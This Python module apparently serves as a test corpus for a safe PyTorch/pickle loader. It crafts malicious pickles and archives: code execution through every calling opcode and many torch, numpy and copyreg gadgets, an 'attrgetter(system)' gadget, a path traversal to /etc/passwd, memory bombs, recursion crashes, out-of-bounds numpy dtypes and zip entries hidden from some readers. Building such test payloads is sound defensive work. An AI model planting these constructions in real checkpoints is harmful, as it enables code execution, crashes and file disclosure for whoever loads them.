"""Pickles that would do harm, each in its own way: code, memory, time, or the end of the process."""

import codecs
import collections
import copyreg
import functools
import io
import operator
import os
import pickle
import struct
import types
import zipfile
import zlib
from dataclasses import dataclass

import numpy
import torch


@dataclass(eq=False)
class Call:
    """Pickles itself as a call of any function, and then the rest of what ``__reduce__`` may say."""

    function: object
    arguments: tuple
    rest: tuple = ()

    def __reduce__(self):
        return self.function, self.arguments, *self.rest


dumps = functools.partial(pickle.dumps, protocol=2)  # whose operations torch's reader has


def called_by_pickle(function, *arguments):
    """A pickle that calls a function."""
    return dumps(Call(function, arguments))


def archive(value, **how):
    file = io.BytesIO()
    torch.save(value, file, **how)
    return file.getvalue()


def legacy(value):
    return archive(value, _use_new_zipfile_serialization=False)


def byte_tensor(data):
    return torch.frombuffer(bytearray(data), dtype=torch.uint8)


def zipped(entries):
    """A zip file as torch writes it, of (name, data, another name that some readers take)."""
    out = directory = b""
    for name, data, other in entries:
        name, crc, at = name.encode(), zlib.crc32(data), len(out)
        sizes = (crc, len(data), len(data), len(name))
        out += struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 0, 0x800, 0, 0, 0, *sizes, 0) + name + data
        extra = b""
        if other:
            body = struct.pack("<BL", 1, zlib.crc32(name)) + other.encode()
            extra = struct.pack("<HH", 0x7075, len(body)) + body
        head = (b"PK\1\2", 0, 0, 0x800, 0, 0, 0, *sizes, len(extra), 0, 0, 0, 0, at)
        directory += struct.pack("<4sHHHHHHIIIHHHHHII", *head) + name + extra
    at, count = len(out), len(entries)
    end = struct.pack("<4sQHHIIQQQQ", b"PK\6\6", 44, 0x31E, 45, 0, 0, count, count, len(directory), at)
    end += struct.pack("<4sIQI", b"PK\6\7", 0, at + len(directory), 1)
    end += struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, count, count, len(directory), 2**32 - 1, 0)
    return out + directory + end


def with_pickle(pickled, hidden=False, sound=None):
    """An archive whose ``data.pkl`` is another; hidden from readers that take the names of Unicode fields."""
    sound = archive({"a": 1}) if sound is None else sound
    entries = [(each.filename, zipfile.ZipFile(io.BytesIO(sound)).read(each), None) for each in entries_of(sound)]
    root = entries[0][0].split("/")[0]
    changed = []
    if hidden:
        good = next(data for name, data, _ in entries if name == f"{root}/data.pkl")
        changed = [(f"{root}/z", good, f"{root}/data.pkl")]
    for name, data, _ in entries:
        is_pickle = name == f"{root}/data.pkl"
        changed.append((name, pickled if is_pickle else data, f"{root}/.x" if is_pickle and hidden else None))
    return zipped(changed)


def entries_of(data):
    return zipfile.ZipFile(io.BytesIO(data)).infolist()


def raw(*operations):
    return b"\x80\x04" + b"".join(operations) + b"."


def text(value):
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def named(module, name):
    return b"c%s\n%s\n" % (module.encode(), name.encode())


def number(value):
    return b"\x8a\x08" + struct.pack("<q", value)


def binary(data):
    return b"B" + struct.pack("<I", len(data)) + data


def called(module, name, *arguments):
    return named(module, name) + b"(" + b"".join(arguments) + b"tR"


def dtype_of(state, name="O8"):
    return Call(numpy.dtype, (name, False, True), (state,))


def array_of(dtype, data=b"A" * 16, count=2):
    array = (numpy.ndarray, (0,), b"b")
    return dumps(Call(numpy._core.multiarray._reconstruct, array, ((1, (count,), dtype, False, data),)))


def tensor_of(size, stride, entries=1, offset=0):
    """A pickle of a tensor in an archive, whose storage has ``entries``."""
    storage = (
        b"(" + text("storage") + named("torch", "FloatStorage") + text("0") + text("cpu") + number(entries) + b"tQ"
    )
    sides = [b"(" + b"".join(map(number, each)) + b"t" for each in (size, stride)]
    hooks = called("collections", "OrderedDict")
    made = called("torch._utils", "_rebuild_tensor_v2", storage, number(offset), *sides, b"\x89", hooks)
    return with_pickle(b"\x80\x02" + made + b".", sound=archive(torch.ones(1)))


def nested(value, depth=40):
    for _ in range(depth):
        value = [{"a": value}]
    return value


def payloads(mark):
    """Name -> pickle, or what ``torch.save`` wrote. Code in them makes a folder."""
    make = (os.mkdir, (str(mark),))
    code = Call(*make)
    plain = dumps(code)
    mkdir, path = named("posix", "mkdir"), text(str(mark))
    listed = [Call(types.SimpleNamespace, (), (None, iter([code])))]
    bytes_of = named("torch.storage", "_load_from_bytes") + binary(plain)
    huge = number(10**15)
    npz = io.BytesIO()
    numpy.savez(npz, a=numpy.array([code], dtype=object))
    copyreg_name = named("copyreg", "_reconstructor")
    deep = b")" + b"\x85" * 300_000
    return {
        # by every operation that calls
        "REDUCE": raw(mkdir, b"(", path, b"tR"),
        "of a name on the stack": raw(text("posix"), text("mkdir"), b"\x93(", path, b"tR"),
        "of a name in the memo": raw(text("posix"), b"q\0", text("mkdir"), b"q\1", b"h\0h\1\x93(", path, b"tR"),
        "INST": raw(b"(", path, b"iposix\nmkdir\n"),
        "OBJ": raw(b"(", mkdir, path, b"o"),
        "NEWOBJ": raw(mkdir, b"(", path, b"t\x81"),
        "NEWOBJ_EX": raw(mkdir, b"(", path, b"t}\x92"),
        "EXT1": raw(b"\x82\x05(", path, b"tR"),
        "EXT2": raw(b"\x83\x05\0(", path, b"tR"),
        "EXT4": raw(b"\x84\x05\0\0\0(", path, b"tR"),
        "protocol 0": pickle.dumps(code, protocol=0),
        "protocol 1": pickle.dumps(code, protocol=1),
        "protocol 5": pickle.dumps(code, protocol=5),
        # in every place
        "in containers": dumps(nested(code)),
        "in the key of a dict": dumps({Call(tuple, ([code],)): 1}),
        "in a set": called_by_pickle(set, [Call(tuple, ([code],))]),
        "an item of what is no list": dumps(listed),
        "an item that is set": dumps(Call(types.SimpleNamespace, (), (None, None, iter([("a", code)])))),
        "an array of objects": dumps(numpy.array([code], dtype=object)),
        "an npz": dumps(io.BytesIO(npz.getvalue())),
        "in a partial": dumps(functools.partial(*make[:1], *make[1])),
        "an attribute by name": dumps(operator.attrgetter("system")),
        "a dict that makes values": called_by_pickle(collections.defaultdict, os.getcwd),
        "hooks of a parameter": called_by_pickle(
            torch._utils._rebuild_parameter, torch.ones(1), True, collections.OrderedDict(a=os.getcwd)
        ),
        # by what torch, numpy and Python have
        "copyreg._reconstructor": raw(copyreg_name, mkdir, named("builtins", "object"), b"N\x87R"),
        "copy_reg of Python 2": b"\x80\x02ccopy_reg\n__newobj__\n(" + mkdir + b"tR.",
        "getattr": raw(called("builtins", "getattr", named("torch", "Tensor"), text("__class__"))),
        "a dotted name": raw(text("torch"), text("Tensor.__class__"), b"\x93"),
        "a dotted name of an enum's module": raw(text("megatron.core.enums"), text("ModelType.mro"), b"\x93"),
        "a module in a module of enums": raw(text("megatron.core.enums"), text("enum.sys"), b"\x93"),
        "torch.load": called_by_pickle(torch.load, "/tmp/x"),
        "torch.jit.load": raw(text("torch.jit"), text("load"), b"\x93", text("x"), b"\x85R"),
        "torch.hub.load": raw(text("torch"), text("hub.load"), b"\x93", text("x"), b"\x85R"),
        "a subclass of tensors": called_by_pickle(torch._tensor._rebuild_from_type_v2, os.mkdir, int, make[1], {}),
        "a wrapper of tensors": called_by_pickle(torch._utils._rebuild_wrapper_subclass, os.mkdir, 1, 2, 3, 4, 5, 6),
        "a tensor of numpy": called_by_pickle(
            torch._utils._rebuild_device_tensor_from_numpy, numpy.ones(1), torch.float32, "cpu", False
        ),
        "an encoding": called_by_pickle(codecs.encode, "x", "rot13"),
        "text of anything": called_by_pickle(str, "rng_state"),
        # in bytes that are loaded again
        "_load_from_bytes": raw(bytes_of, b"\x85R"),
        "_load_from_bytes by INST": raw(b"(", binary(plain), b"itorch.storage\n_load_from_bytes\n"),
        "_load_from_bytes by OBJ": raw(b"(", bytes_of, b"o"),
        "_load_from_bytes by NEWOBJ": raw(bytes_of, b"\x85\x81"),
        "_load_from_bytes of an archive": called_by_pickle(torch.storage._load_from_bytes, archive(code)),
        "_load_from_bytes of before archives": called_by_pickle(torch.storage._load_from_bytes, legacy(code)),
        "_load_from_bytes for missing values": raw(
            called("collections", "defaultdict", named("torch.storage", "_load_from_bytes"))
        ),
        # what changes more than what is loaded
        "the state of a class": raw(named("argparse", "Namespace"), b"N}", text("lr"), b"K\1s\x86b"),
        "the state of a function": raw(named("torch._utils", "_rebuild_tensor_v2"), b"N}", text("__doc__"), b"Ns\x86b"),
        "the state of an enum": raw(called("signal", "Signals", b"K\x0f"), b"}", text("lr"), b"K\1sb"),
        "the state of a dtype": raw(named("torch", "float32"), b"}", text("lr"), b"K\1sb"),
        "slots": raw(named("argparse", "Namespace"), b")\x81N}", text("a"), mkdir, b"s\x86b"),
        "__setstate__": raw(named("argparse", "Namespace"), b")\x81}", text("__setstate__"), mkdir, b"sb"),
        "__reduce_ex__": raw(named("argparse", "Namespace"), b")\x81}", text("__reduce_ex__"), b"Nsb"),
        "a method of a tensor": called_by_pickle(
            torch._tensor._rebuild_from_type_v2,
            *(torch._utils._rebuild_parameter, torch.Tensor, (torch.ones(1), True, {}), {"detach": 1}),
        ),
        # what is not in the file
        "a persistent identity": raw(text("../../../etc/passwd"), b"Q"),
        "a storage elsewhere": with_pickle(
            b"\x80\x02((" + text("storage") + text("x") + text("0") + text("cpu") + b"K\1tQt."
        ),
        # memory
        "a storage of 1e15 bytes": raw(called("torch.storage", "UntypedStorage", huge)),
        "a typed storage of 1e15": raw(called("torch", "FloatStorage", huge)),
        "a tensor of 1e15 bytes": raw(called("torch", "Tensor", huge)),
        "bytes of 1e15": raw(called("builtins", "bytes", huge)),
        "a bytearray of 1e12": raw(called("builtins", "bytearray", number(10**12))),
        "a tuple of a range": raw(called("builtins", "tuple", called("builtins", "range", number(10**11)))),
        "a set of a range": raw(called("builtins", "set", called("builtins", "range", number(10**11)))),
        "a list of a range": raw(called("builtins", "list", called("builtins", "range", number(10**11)))),
        "an array of 1e15": raw(called("numpy", "ndarray", huge)),
        "a number of many digits": raw(called("builtins", "int", b"X" + struct.pack("<I", 4300) + b"9" * 4300)),
        "a far place in the memo": raw(b"Nr\xff\xff\xff\xff"),
        "a far place in the memo, as text": raw(b"Np99999999999\n0N"),
        "bytes that are not there": raw(b"\x8e" + struct.pack("<Q", 2**62)),
        "a bytearray that is not there": raw(b"\x96" + struct.pack("<Q", 2**40)),
        "text that is not there": raw(b"\x8d" + struct.pack("<Q", 2**62)),
        "a frame that is not there": raw(b"\x95" + struct.pack("<Q", 2**62)),
        "a tensor of many strides": tensor_of([2**40], [1]),
        "a tensor of one entry": tensor_of([2**40, 2**20], [0, 0]),
        "a tensor that begins elsewhere": tensor_of([1], [1], offset=2**50),
        "a tensor of many dimensions": tensor_of([1] * 65, [1] * 65),
        "more entries than there are": tensor_of([1], [1], entries=2**40),
        # the end of the process, or of time
        "a deep tuple for a key": raw(b"}", deep, b"K\1s"),
        "a deep tuple in a set": raw(b"\x8f(", deep, b"\x90"),
        "a deep tuple in a set that stays": raw(b"(", deep, b"\x91"),
        "a deep tuple for an enum": raw(called("signal", "Signals", deep)),
        "a deep list": raw(b"]" * 300_000, b"a" * 299_999),
        "a large number for a key": raw(b"}(", (b"\x8b" + struct.pack("<i", 10**6) + b"\1" * 10**6 + b"q\0"), b"Nu"),
        # objects of numpy in memory that holds other things
        "a dtype of objects": array_of(dtype_of((3, "|", None, None, None, -1, -1, 0))),
        "a field of objects": array_of(
            dtype_of((3, "|", None, ("f",), {"f": (numpy.dtype("O"), 0)}, 8, 1, 0), "V8"),
        ),
        "a field beyond the end": array_of(
            dtype_of((3, "|", None, ("f",), {"f": (numpy.dtype("<u8"), 2**20)}, 8, 1, 16), "V8")
        ),
        "numbers of a megabyte": array_of(dtype_of((3, "|", None, None, None, 2**20, 1, 0), "V8")),
        "numbers made of numbers": array_of(
            dtype_of((3, "|", (numpy.dtype("u1"), (2**20,)), None, None, 8, 1, 0), "V8")
        ),
        "flags of objects": array_of(dtype_of((3, "<", None, None, None, -1, -1, 63), "i8")),
        "a number that is an object": dumps(Call(numpy._core.multiarray.scalar, (numpy.dtype("O"), b"A" * 8))),
        "a number of another size": dumps(Call(numpy._core.multiarray.scalar, (numpy.dtype("i8"), b"A"))),
        "a dtype of objects alone": array_of(Call(numpy.dtype, ("O8", False, True))),
        "more numbers than bytes": array_of(numpy.dtype("i8"), count=2**40),
        # archives that readers read in different ways
        "an archive": archive(code),
        "before archives": legacy(code),
        "in a Unicode field": with_pickle(plain, hidden=True),
        "an archive behind a pickle": archive({"a": 1}) + plain,
        "a pickle behind an archive": plain + archive({"a": 1}),
        "TorchScript": script(),
    }


def script():
    file = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Linear(1, 1)), file)
    return file.getvalue()


def register_extension():
    """As in a program that has used an extension code: Python then keeps what it names."""
    copyreg.add_extension("posix", "mkdir", 5)
    pickle.loads(raw(b"\x82\x05"))
